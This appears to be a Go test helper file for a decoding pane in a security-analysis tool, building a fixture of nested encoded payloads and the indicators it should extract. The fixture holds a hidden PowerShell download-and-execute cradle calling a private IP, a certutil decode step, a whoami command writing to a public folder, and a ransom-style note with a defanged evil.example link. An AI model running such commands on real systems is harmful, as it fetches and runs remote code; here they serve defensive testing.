package decode

import (
	"encoding/base64"
	"os"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/charmbracelet/lipgloss"
	"github.com/charmbracelet/x/ansi"
	"github.com/muesli/termenv"

	"github.com/quarry-sec/quarry/engine/decode"
	"github.com/quarry-sec/quarry/engine/ioc"
	"github.com/quarry-sec/quarry/themes"
	"github.com/quarry-sec/quarry/views/pane"
)

func TestMain(m *testing.M) {
	lipgloss.SetColorProfile(termenv.Ascii)
	os.Exit(m.Run())
}

func testCtx() *pane.Context {
	c := pane.NewContext(themes.Mono())
	c.Now = func() time.Time { return time.Date(2024, 3, 5, 14, 7, 9, 0, time.UTC) }
	return c
}

// withProfile sets lipgloss's colour profile for one test.
func withProfile(t *testing.T, p termenv.Profile) {
	t.Helper()
	lipgloss.SetColorProfile(p)
	t.Cleanup(func() { lipgloss.SetColorProfile(termenv.Ascii) })
}

func utf16le(s string) []byte {
	var out []byte
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

// The fixture: a PowerShell command line with a -enc payload (which holds a
// second payload) and a base64 zip of two members, one text, one a PE.
const (
	script   = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1'); $c='"
	inner    = `cmd /c whoami > C:\Users\Public\out.txt & ping 192.168.1.20`
	readme   = "Pay at hxxps://evil[.]example[.]com/x or mail admin@evil.example.com; mirror 10.0.0.5\n\nThanks"
	peHex    = "4d 5a 90 00 03 00 00 00 04 00 00 00 ff ff 00 00 b8 00 00 00 00 00 00 00 40 00 00 00 00 00 00 00 54 68 69 73 20 70 72 6f 67 72 61 6d"
	zipB64   = "UEsDBBQAAAAIAAAAIQBdZXZpbC16aXAtbWVtYmVycy1oZXJlLWZvci10ZXN0cw=="
	peSHA256 = "8a9f1b3c1e2d4f5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c"
)

// sample is what the runner would answer for the fixture.
type sample struct {
	input, innerB64, encB64, itemText string
	res                               *decode.Result
	msg                               pane.Decoded
}

func newSample(t testing.TB) sample {
	t.Helper()
	innerB64 := base64.StdEncoding.EncodeToString([]byte(inner))
	itemText := script + innerB64 + "'; iex $c"
	enc := base64.StdEncoding.EncodeToString(utf16le(itemText))
	input := "powershell.exe -nop -w hidden -enc " + enc + " ; certutil -decode " + zipB64 + " ; ping 10.1.2.3"
	tagged := "powershell.exe -nop -w hidden -enc <decoded type='string' name='[None]' index='1' depth='1'>" +
		script + "<decoded type='string' name='[None]' index='1.1' depth='2'>" + inner + "</decoded>'; iex $c</decoded>" +
		" ; certutil -decode <decoded type='zip' name='[None]' index='2' depth='1'>…</decoded> ; ping 10.1.2.3"
	at := func(s, sub string) (int, int) {
		i := strings.Index(s, sub)
		if i < 0 {
			t.Fatalf("%q not in %q", sub, s)
		}
		return i, i + len(sub)
	}
	m := func(s string, typ ioc.Type, written, value string, defanged bool) ioc.Match {
		a, z := at(s, written)
		return ioc.Match{Type: typ, Value: value, Start: a, End: z, Defanged: defanged}
	}
	s1, e1 := at(input, enc)
	s11, e11 := at(itemText, innerB64)
	s2, e2 := at(input, zipB64)
	res := &decode.Result{
		Decoded: tagged,
		Items: []decode.Item{
			{Index: 0, Parent: -1, Reference: "1", Depth: 1, Encoding: "base64>utf-16le", Start: s1, End: e1, Original: enc,
				FileType: "utf-16le", Size: len(utf16le(itemText)), MD5: "0cc175b9c0f1b6a831c399e269772661",
				SHA1: "86f7e437faa5a7fce15d1ddcb9eaeaea377667b8", SHA256: "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
				Decoded: itemText, Text: true, Children: []int{1}},
			{Index: 1, Parent: 0, Reference: "1.1", Depth: 2, Encoding: "base64", Start: s11, End: e11, Original: innerB64,
				FileType: "utf-8", Size: len(inner), SHA256: "3e23e8160039594a33894f6564e1b1348bbd7a0088d42c4acb73eeaed59c009d",
				Decoded: inner, Text: true},
			{Index: 2, Parent: -1, Reference: "2", Depth: 1, Encoding: "base64>zip", Start: s2, End: e2, Original: zipB64,
				FileType: "zip", Size: 2150, SHA256: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
				Decoded: "50 4b 03 04", Children: []int{3, 4}},
			{Index: 3, Parent: 2, Reference: "2.1", Depth: 2, Encoding: "base64>zip", FileName: "readme.txt",
				FileType: "utf-8", Size: len(readme), SHA256: "fcde2b2edba56bf408601fb721fe9b5c338d10ee429ea04fae5511b68fbf8fb9",
				Decoded: readme, Text: true},
			{Index: 4, Parent: 2, Reference: "2.2", Depth: 2, Encoding: "base64>zip", FileName: "invoice.exe",
				FileType: "pe", Size: 14 * 1024, MD5: "d41d8cd98f00b204e9800998ecf8427e",
				SHA1: "da39a3ee5e6b4b0d3255bfef95601890afd80709", SHA256: peSHA256, Decoded: peHex},
		},
	}
	msg := pane.Decoded{
		Seq:       1,
		Request:   pane.DecodeText{Text: input, Source: "SecurityEvent.CommandLine, row 12"},
		Result:    res,
		InputIoCs: []ioc.Match{m(input, ioc.IPv4, "10.1.2.3", "10.1.2.3", false)},
		ItemIoCs: [][]ioc.Match{
			{m(itemText, ioc.URL, "http://10.0.0.5/a.ps1", "http://10.0.0.5/a.ps1", false), m(itemText, ioc.IPv4, "10.0.0.5", "10.0.0.5", false)},
			{m(inner, ioc.WindowsPath, `C:\Users\Public\out.txt`, `C:\Users\Public\out.txt`, false), m(inner, ioc.IPv4, "192.168.1.20", "192.168.1.20", false)},
			nil,
			{m(readme, ioc.URL, "hxxps://evil[.]example[.]com/x", "https://evil.example.com/x", true),
				m(readme, ioc.Email, "admin@evil.example.com", "admin@evil.example.com", false),
				m(readme, ioc.IPv4, "10.0.0.5", "10.0.0.5", false)},
			nil,
		},
	}
	return sample{input: input, innerB64: innerB64, encB64: enc, itemText: itemText, res: res, msg: msg}
}

// loaded is a pane at w×h showing the sample.
func loaded(t testing.TB, w, h int) (*Model, sample) {
	t.Helper()
	s := newSample(t)
	m := New(testCtx())
	m.SetSize(w, h)
	m.Update(s.msg)
	return m, s
}

// press sends keys by name and returns the last command.
func press(m *Model, keys ...string) tea.Cmd { return pane.Press(m, keys...) }

// msgOf runs a command and returns its message (nil for a nil command).
func msgOf(cmd tea.Cmd) tea.Msg {
	if cmd == nil {
		return nil
	}
	return cmd()
}

// checkSize fails unless v is exactly h lines of exactly w cells.
func checkSize(t *testing.T, what, v string, w, h int) {
	t.Helper()
	lines := strings.Split(v, "\n")
	if len(lines) != h {
		t.Errorf("%s: %d lines, want %d", what, len(lines), h)
	}
	for i, l := range lines {
		if got := ansi.StringWidth(l); got != w {
			t.Errorf("%s: line %d is %d cells, want %d: %q", what, i, got, w, l)
		}
	}
}

// selectNode moves the tree's selection to the node with the given reference.
func selectNode(t *testing.T, m *Model, ref string) {
	t.Helper()
	press(m, "g")
	for range m.rows {
		if m.doc.ref(m.Selected()) == ref {
			return
		}
		press(m, "j")
	}
	t.Fatalf("no node %q in the tree", ref)
}
